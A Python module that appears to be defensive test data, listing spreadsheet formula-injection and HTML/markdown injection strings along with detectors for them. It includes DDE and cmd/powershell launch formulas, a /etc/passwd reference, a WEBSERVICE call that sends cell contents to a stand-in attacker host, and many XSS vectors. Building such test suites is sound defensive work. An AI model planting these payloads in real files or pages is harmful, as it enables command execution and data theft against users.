"""Texts that mean harm: 60 that a spreadsheet would run as a formula, 40 that a page or a document would run, load or turn around."""

import re

_CALLS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', 'WEBSERVICE("http://evil.example/"&A1)', 'IMPORTXML("http://evil.example","//a")',
    "SUM(1)", 'DDE("cmd","/C calc","x")', "'file:///etc/passwd'#$A.1", 'IMAGE("http://evil.example/p.png")', "1*cmd|'/C powershell'!A1",
)  # fmt: skip
FORMULAS = (
    *(f"={call}" for call in _CALLS),
    *(f"{sign}{call}" for sign in "+-@" for call in _CALLS[:6]),
    *(f"{sign}{call}" for sign in "＝＋－＠" for call in _CALLS[:4]),
    *(f"{lead}={call}" for lead in ("\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "\v", "\x1c") for call in _CALLS[:1]),
    "{=1+1}", "http://evil.example/x", "external:evil.xlsx", "mailto:a@evil.example", "x;=1+1", 'x",=1+1', "%0A=1+1",
)  # fmt: skip
SCRIPTS = (
    "<script>window.evil=1</script>", "</script><script>window.evil=1</script>", "<img src=x onerror=window.evil=1>", "<svg onload=window.evil=1>",
    "<svg><script>window.evil=1</script></svg>", '<a href="javascript:window.evil=1">evil</a>', "<iframe src=http://evil.example></iframe>",
    '"><img src=http://evil.example/a.png>', "'-window.evil=1-'", "<details open ontoggle=window.evil=1>", '<math href="javascript:window.evil=1">evil</math>',
    "<style>@import 'http://evil.example/a.css'</style>", "<link rel=stylesheet href=http://evil.example/b.css>", "<!--<img src=x onerror=window.evil=1>-->",
    "<b onmouseover=window.evil=1>evil</b>", "&lt;script&gt;window.evil=1&lt;/script&gt;", "&#60;script&#62;window.evil=1&#60;/script&#62;",
    "[evil](http://evil.example)", "![evil](http://evil.example/c.png)", "[evil](javascript:window.evil=1)", "![evil][r]\n\n[r]: http://evil.example/d.png",
    "<http://evil.example>", "http://evil.example/bare", "www.evil.example", "evil@evil.example", "javascript:window.evil=1",
    "data:text/html,<script>window.evil=1</script>", "{{constructor.constructor('window.evil=1')()}}", "${window.evil=1}", "{% evil %}", "{evil}{0}{by}", "%(evil)s %s",
    ":red[evil] :rainbow[evil]", ":material/delete: :evil: :blue-badge[evil]", "$\\href{http://evil.example}{evil}$", "$$\\unicode{evil}$$",
    "# evil\n---\n| evil | evil |\n|-|-|", "evil\u202egnp.exe", "{evil|rich} {b} {@[1]}", '#panic("evil") #image("evil") \\input{evil}',
)  # fmt: skip
assert (len(FORMULAS), len(SCRIPTS)) == (60, 40)

# What a page would run, load, link or style of these where it takes them for markup: as it stands in the source of markdown and HTML.
ACTIVE = re.compile(
    r"(?<!\\)(?:<(?=[a-z!/])(?:script|img|svg|a |iframe|details|math|style|link|b |!--|http)[^>]*(?:evil|onerror|onload)"
    r"|\]\((?:http|javascript)[^)]*evil|!\[evil\]|\]: http"
    r"|:(?:red|rainbow|blue-badge)\[evil|:material/delete:|\$\\href|\$\$)",
    re.IGNORECASE,
)


def is_run(text: object) -> bool:
    """Whether a spreadsheet that opens this cell of a file of text would run it: a sign first, however it is led in."""
    letters = re.sub(r"^[\s\u200b\ufeff\x00-\x20]+", "", str(text))
    return letters.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
